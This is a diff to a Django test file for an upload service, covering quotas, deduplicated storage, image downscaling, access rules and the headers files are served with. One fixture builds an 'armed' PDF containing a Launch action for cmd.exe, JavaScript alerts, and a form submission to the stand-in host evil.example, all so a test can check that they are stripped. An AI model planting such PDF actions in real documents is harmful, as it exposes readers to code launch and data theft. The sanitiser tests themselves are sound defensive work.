@@ -21,6 +21,7 @@ from PIL import Image
 from lorbeer.people.models import Person
 from lorbeer.shared import files, filetypes, queries
 from lorbeer.shared.errors import BadInput, LorbeerError
+from lorbeer.shared.limits import Room
 from lorbeer.shared.models import Blob, StoredFile
 from lorbeer.shared.verdicts import ALLOWED, Verdict
 
@@ -207,6 +208,7 @@ def test_a_mail_is_accepted_only_where_mails_are_asked_for():
     (package(DOCX)[:-20], "cut.docx"),
     (package(DOCX | {"word/media/x": b"\0" * 30_000_000}), "bomb.docx"), (b"abc\0def", "a.txt"), (b"\x01\x02\x03", "a.txt"),
     (picture("PNG", (9000, 9000), "1"), "bomb.png"),
+    (picture("TIFF", save_all=True, append_images=[Image.new("RGB", (60, 40))]), "pages.tif"),
 ])
 def test_what_does_not_open_is_refused_with_a_sentence_and_nothing_kept(folder, data, name):
     with pytest.raises(BadInput) as refusal:
@@ -236,7 +238,67 @@ def test_a_file_that_is_too_large_is_refused_whatever_size_it_claims(folder, set
     assert kept(folder) == []
 
 
+def test_a_place_holds_so_much_and_no_more(folder, monkeypatch):
+    monkeypatch.setattr(files, "UPLOADS", Room(number=2, megabytes=1))
+    facts = {"scope": "demo", "subject": "entry:K"}
+    files.store(os.urandom(700_000), name="receipt.pdf", **facts)       # what the house makes does not count
+    first = upload(b"a" * 600_000, "a.txt", **facts)
+    with pytest.raises(BadInput, match="1 MB"):
+        upload(b"b" * 600_000, "b.txt", **facts)
+    upload(b"c", "c.txt", **facts)
+    with pytest.raises(BadInput, match="2 "):
+        upload(b"d", "d.txt", **facts)
+    upload(b"d", "d.txt", scope="demo", subject="entry:M")
+    files.forget(first)
+    assert upload(b"d", "d.txt", **facts)
+
+
+@pytest.mark.django_db(transaction=True)
+def test_bytes_go_with_the_last_file_that_has_them(folder):
+    first, second = upload(picture(), "a.jpg"), upload(picture(), "b.jpg")
+    files.web_picture(first)
+    files.forget(first)
+    assert kept(folder) == [second.blob_id]
+    files.forget(second)
+    assert (kept(folder), Blob.objects.exists()) == ([], False)
+    assert files.read(upload(picture(), "a.jpg")) == picture()
+
+
+@pytest.mark.django_db(transaction=True)
+def test_bytes_that_are_stored_while_others_forget_them_are_there():
+    failures = []
+
+    def come_and_go():
+        try:
+            for _ in range(10):
+                files.forget(files.store(b"the same", name="a.txt"))
+            assert files.read(files.store(b"the same", name="b.txt")) == b"the same"
+        except Exception as error:
+            failures.append(error)
+        finally:
+            connections.close_all()
+
+    threads = [threading.Thread(target=come_and_go) for _ in range(4)]
+    for thread in threads:
+        thread.start()
+    for thread in threads:
+        thread.join()
+    assert failures == []
+    assert [files.read(stored) for stored in StoredFile.objects.all()] == [b"the same"] * 4
+
+
 # --- deriving
+
+
+@pytest.mark.parametrize(("kind", "mode"), [("PNG", "P"), ("PNG", "1"), ("PNG", "RGBA"), ("PNG", "I;16"), ("TIFF", "RGB"), ("JPEG", "L")])
+def test_large_pictures_become_small_before_they_are_copied(kind, mode, monkeypatch):
+    seen = []
+    monkeypatch.setattr(filetypes, "to_srgb", lambda picture, plain=filetypes.to_srgb: seen.append(picture.size) or plain(picture))
+    exif = Image.Exif()
+    exif[filetypes.ORIENTATION] = 6
+    with Image.open(io.BytesIO(filetypes.web_picture(picture(kind, (4000, 2000), mode, exif=exif), 400)[0])) as shown:
+        assert shown.size == (200, 400)
+    assert max(width * height for width, height in seen) <= 4000 * 2000 // 4
 
 
 def photo():
@@ -288,25 +350,32 @@ def armed(made):
         Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=[0, 0, 9, 9],
         A=pikepdf.Dictionary(S=pikepdf.Name.Launch, F="cmd.exe"),
     )
+    sending = pikepdf.Dictionary(
+        Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=[0, 0, 9, 9],
+        A=pikepdf.Dictionary(S=pikepdf.Name.Named, N=pikepdf.Name.NextPage, Next=[
+            pikepdf.Dictionary(S=pikepdf.Name.SubmitForm, F="https://evil.example/form"),
+            pikepdf.Dictionary(S=pikepdf.Name.URI, URI="javascript:alert(4)"),
+        ]),
+    )
     good = pikepdf.Dictionary(
         Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=[0, 0, 9, 9],
         A=pikepdf.Dictionary(S=pikepdf.Name.URI, URI="https://example.org/"),
     )
     note = pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.FileAttachment, Rect=[0, 0, 9, 9])
-    made.pages[0].Annots = made.make_indirect(pikepdf.Array([made.make_indirect(link), good, note]))
+    made.pages[0].Annots = made.make_indirect(pikepdf.Array([made.make_indirect(link), good, note, sending]))
     made.pages[0].AA = pikepdf.Dictionary(O=pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS="app.alert(3)"))
 
 
 def test_a_cleaned_pdf_keeps_its_pages_and_links_and_nothing_that_acts():
     original = upload(pdf(armed), "a.pdf")
-    cleaned = files.clean_pdf(original)
+    cleaned = files.shown(original)
     with pikepdf.open(io.BytesIO(files.read(cleaned))) as made:
         plain = io.BytesIO()
         made.save(plain, object_stream_mode=pikepdf.ObjectStreamMode.disable, compress_streams=False, qdf=True)
         assert len(made.pages) == 1
         assert not made.attachments
     text = plain.getvalue()
-    for word in (b"alert", b"Launch", b"MZ-secret", b"virus", b"FileAttachment"):
+    for word in (b"alert", b"Launch", b"MZ-secret", b"virus", b"FileAttachment", b"evil.example", b"SubmitForm"):
         assert word not in text, word
     assert b"https://example.org/" in text
     assert files.read(original) == pdf(armed) or b"alert" in files.read(original)
@@ -326,24 +395,56 @@ def body(response):
 
 
 def test_a_public_file_is_read_by_everybody_and_kept_by_browsers(client):
-    stored = upload(picture(), "Ein Bild.jpg", access="public")
+    stored = files.store(picture(), name="Ein Bild.jpg", access="public")
     response = client.get(files.address_of(stored))
     assert (response.status_code, body(response)) == (200, picture())
     assert "public" in response["Cache-Control"]
     assert "immutable" in response["Cache-Control"]
-    assert response["X-Content-Type-Options"] == "nosniff"
-    assert response["Content-Disposition"].startswith("inline")
-    policy = response["Content-Security-Policy"]
-    assert "sandbox" in policy
-    assert "default-src 'none'" in policy
     again = client.get(files.address_of(stored), headers={"If-None-Match": response["ETag"]})
     assert again.status_code == 304
 
 
-def test_a_text_is_downloaded_and_never_shown(client):
-    stored = upload(b"1 < 2", "Übersicht.txt", access="public")
+ALONE = "default-src 'none'; frame-ancestors 'none'"
+
+
+@pytest.mark.parametrize(("stored", "media_type", "disposition", "policy"), [
+    (lambda: upload(photo(), "Ein Bild.jpg"), "image/webp", 'inline; filename="Ein Bild.webp"', f"{ALONE}; sandbox"),
+    (lambda: upload(pdf(armed), "a.pdf"), "application/pdf", 'attachment; filename="a.pdf"', f"{ALONE}; sandbox"),
+    (lambda: files.store(pdf(), name="a.pdf"), "application/pdf", 'inline; filename="a.pdf"', ALONE),
+    (lambda: upload(package(DOCX), "a.docx"), filetypes.OFFICE["word/document.xml"], 'attachment; filename="a.docx"', f"{ALONE}; sandbox"),
+    (lambda: upload(b"1 < 2", "Übersicht.txt"), "text/plain", "attachment; filename*=utf-8''%C3%9Cbersicht.txt", f"{ALONE}; sandbox"),
+    (lambda: files.store(b"<html>", name="a.html"), "text/html", 'attachment; filename="a.html"', f"{ALONE}; sandbox"),
+], ids=["photo", "PDF of a stranger", "our own PDF", "Word", "text", "our own page"])
+def test_what_people_sent_is_shown_cleaned_or_downloaded(client, stored, media_type, disposition, policy):
+    stored = stored()
+    files.release(stored)
     response = client.get(files.address_of(stored))
-    assert response["Content-Disposition"] == "attachment; filename*=utf-8''%C3%9Cbersicht.txt"
+    assert response.status_code == 200
+    assert (response["Content-Type"], response["Content-Disposition"]) == (media_type, disposition)
+    assert (response["Content-Security-Policy"], response["X-Content-Type-Options"]) == (policy, "nosniff")
+    content = body(response)
+    assert b"Camera" not in content
+    assert b"JavaScript" not in content
+
+
+def test_the_original_is_for_its_bringer_and_those_who_keep_the_record(client, monkeypatch):
+    monkeypatch.setattr(queries, "_keeper_checks", [lambda who, scope: getattr(who, "name", "") == "Büro" and scope == "demo"])
+    bringer, office, reader = (Person.objects.create_user(f"{n}@example.org", "a long password", name=n)
+                               for n in ("Ada", "Büro", "Jury"))
+    stored = upload(photo(), "Foto.jpg", stored_by=bringer, scope="demo", access="public")
+    address = files.original_address(stored)
+    for person in (bringer, office):
+        client.force_login(person, backend=project_settings.AUTHENTICATION_BACKENDS[-1])
+        response = client.get(address)
+        assert (response.status_code, body(response)) == (200, photo())
+        assert response["Content-Disposition"] == 'attachment; filename="Foto (Original).jpg"'
+        assert response["Cache-Control"].startswith("private")
+        assert files.listed(person, [stored])[0]["original"] == address
+    client.force_login(reader, backend=project_settings.AUTHENTICATION_BACKENDS[-1])
+    assert client.get(address).status_code == 403
+    assert files.listed(reader, [stored])[0]["original"] == ""
+    client.logout()
+    assert client.get(address).status_code == 403
 
 
 def test_a_restricted_file_is_for_its_bringer_and_whom_the_rule_of_its_app_lets(client, monkeypatch):
@@ -358,7 +459,7 @@ def test_a_restricted_file_is_for_its_bringer_and_whom_the_rule_of_its_app_lets(
     assert client.get(address).status_code == 404
     files.allow("entry:K7", lambda who, stored: ALLOWED)
     response = client.get(address)
-    assert (response.status_code, "private" in response["Cache-Control"], body(response)) == (200, True, picture())
+    assert (response.status_code, "private" in response["Cache-Control"], body(response)) == (200, True, files.read(files.web_picture(stored)))
     files._rules.clear()
     own = upload(picture("PNG"), "b.png", stored_by=person)
     assert client.get(files.address_of(own)).status_code == 200
